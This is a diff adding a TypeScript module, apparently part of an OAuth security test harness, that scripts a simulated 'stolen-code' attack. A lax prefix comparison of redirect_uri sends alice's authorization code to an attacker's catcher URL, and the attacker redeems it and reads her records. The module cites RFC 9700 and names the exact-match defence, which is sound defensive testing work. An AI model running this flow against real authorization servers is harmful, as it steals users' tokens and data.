@@ -1,0 +1,118 @@
+import type { Step } from '../flows/step.js'
+import { codeChallenge } from '../oauth/pkce.js'
+import type { Refusal } from './defence.js'
+import { type Attack, planned } from './model.js'
+import { authorizationUrl, authorize, grantRequest, memberOf, parameterOf, recordsRequest } from './moves.js'
+import type { Scene } from './scene.js'
+import { HONEST_LOGIN, honestLogin } from './victim.js'
+
+/** The client in whose name the attacker asks: public, and known to alice. */
+const CLIENT = 'notes-app'
+
+async function* run(scene: Scene): AsyncGenerator<Step, Refusal | undefined, void> {
+  const { victim, attacker, site, step, random } = scene
+  yield* honestLogin(scene)
+
+  const verifier = Buffer.from(random(32)).toString('base64url')
+  const catcher = `${site.url}/catch`
+  const link = authorizationUrl(scene, {
+    ...{ response_type: 'code', client_id: CLIENT, redirect_uri: catcher, scope: 'records:read' },
+    ...{ state: 'anything', code_challenge: codeChallenge(verifier), code_challenge_method: 'S256' },
+  })
+  yield step('lure', { url: link, note: `the answer is to go to ${catcher}` })
+
+  const landing = yield* authorize(scene, link, {
+    browser: victim,
+    account: scene.accounts.victim,
+    names: ['authorization_request', 'login'],
+  })
+  if (landing.target === undefined || !landing.target.startsWith(site.url))
+    return scene.refusal(landing.exchange)
+  yield step('code_arrival', { exchange: (await victim.follow(landing.exchange))! })
+
+  const code = parameterOf(site.visits.at(-1)!.url, 'code')
+  if (code === undefined) return scene.refusal(landing.exchange)
+  const redemption = { code, redirect_uri: catcher, code_verifier: verifier }
+  const tokens = await attacker.send(grantRequest(scene, CLIENT, 'authorization_code', redemption))
+  yield step('token_request', { exchange: tokens })
+  const token = memberOf(tokens, 'access_token')
+  if (token === undefined) return scene.refusal(tokens)
+
+  const records = await attacker.send(recordsRequest(scene, token))
+  yield step('resource_request', { exchange: records })
+  return scene.refusal(records)
+}
+
+/** A code that the authorization server sends to the attacker, because it compares addresses badly. */
+export const stolenCode: Attack = {
+  name: 'stolen-code',
+  title: 'a code sent to an address that only looks like the client’s',
+  rule: 'RFC 9700 §4.1.1',
+  weak: ['redirect-prefix'],
+  opened: { 'redirect-prefix': { stolen: true }, 'redirect-any': { stolen: true } },
+  starts: [
+    'The attacker can send alice a link, and has a server of their own (A1 in RFC 9700 §3).',
+    'The attacker knows the client_id of a public client; it is in every authorization request.',
+    'The address of the attacker’s server begins like the registered address of the client.',
+  ],
+  steals: 'records of alice',
+  defences: [{ check: 'redirect_uri', rule: 'RFC 9700 §4.1.3' }],
+  wouldNotHelp: [
+    'PKCE: the attacker made the request, so the verifier is the attacker’s too',
+    'state: the answer never comes to the client that would compare it',
+    'TLS: every connection of the attack is encrypted, the last one for the attacker',
+  ],
+  // A registered address without its end: the address of the attacker has one digit more.
+  clients: site => [
+    {
+      ...{ client_id: CLIENT, client_name: 'Notes', redirect_uris: [site.slice(0, -1)], consent: 'granted' },
+      ...{ grant_types: ['authorization_code'], response_types: ['code'] },
+    },
+  ],
+  plan: [
+    HONEST_LOGIN,
+    planned(
+      'lure',
+      ['attacker', 'user_agent'],
+      'a link in a mail',
+      '9700 §4.1.1',
+      'The attacker sends alice an authorization request in the name of a real client, with an address of the attacker in it.',
+    ),
+    planned(
+      'authorization_request',
+      ['user_agent', 'authorization_server'],
+      'GET /authorization',
+      '6749 §4.1.1',
+      'Alice opens the link. Her session answers for her. The server compares redirect_uri with the registered address.',
+    ),
+    planned(
+      'login',
+      ['user_agent', 'authorization_server'],
+      'POST /authorization',
+      '6749 §4.1.1',
+      'Alice logs in or agrees, at the real server, for a client that she knows.',
+    ),
+    planned(
+      'code_arrival',
+      ['user_agent', 'attacker'],
+      'GET /catch',
+      '6749 §4.1.2',
+      'Her browser follows the redirect and brings the code to the attacker.',
+    ),
+    planned(
+      'token_request',
+      ['attacker', 'authorization_server'],
+      'POST /token',
+      '6749 §4.1.3',
+      'The attacker redeems the code with the verifier of the link, as the public client.',
+    ),
+    planned(
+      'resource_request',
+      ['attacker', 'resource_server'],
+      'GET /records',
+      '6750 §2.1',
+      'The attacker reads the records with the token of alice.',
+    ),
+  ],
+  run,
+}
